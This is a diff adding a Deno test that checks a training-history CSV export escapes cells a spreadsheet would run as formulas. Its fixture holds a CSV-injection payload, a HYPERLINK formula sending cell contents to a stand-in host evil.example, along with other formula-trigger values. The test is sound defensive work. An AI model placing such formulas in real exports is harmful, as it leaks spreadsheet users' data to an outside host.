@@ -9,7 +9,12 @@ import { readCsv } from "../../../stages/log/csv.ts";
 import { LockHeldError } from "../../../training/lock.ts";
 import { UsageError } from "../../../core/errors.ts";
 import type { CycleRecord, Figures, RetrainStore } from "../../../training/retrain/store.ts";
-import { HISTORY_CSV_COLUMNS, openSqliteStore } from "../../../training/retrain/store_sqlite.ts";
+import {
+  HISTORY_CSV_COLUMNS,
+  historyCsv,
+  openSqliteStore,
+} from "../../../training/retrain/store_sqlite.ts";
+import { parseCsv } from "../../../stages/log/csv.ts";
 import {
   maskUrl,
   openPostgresStore,
@@ -191,6 +196,22 @@ Deno.test("SQLite store: record, replace, recent, get, lastNumber, history.csv, 
   } finally {
     await Deno.remove(dir, { recursive: true });
   }
+});
+
+Deno.test("history.csv: a text cell a spreadsheet would run as a formula starts with ', numbers stay", () => {
+  const bad: CycleRecord = {
+    ...running,
+    decision: "failed",
+    reason: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    host: "@SUM(1+1)",
+    exitCode: 1,
+  };
+  const other = { ...bad, reason: "-2+3", host: "\tx" };
+  const [header, first, second, plain] = parseCsv(historyCsv([bad, other, running]));
+  const cells = (row: string[], ...names: string[]) => names.map((n) => row[header.indexOf(n)]);
+  assertEquals(cells(first, "reason", "host", "exit_code"), [`'${bad.reason}`, "'@SUM(1+1)", "1"]);
+  assertEquals(cells(second, "reason", "host"), ["'-2+3", "'\tx"]);
+  assertEquals(cells(plain, "reason", "pid"), ["training", "4242"], "plain text unchanged");
 });
 
 Deno.test("SQLite store: a held lock makes a second lock() throw LockHeldError", async () => {
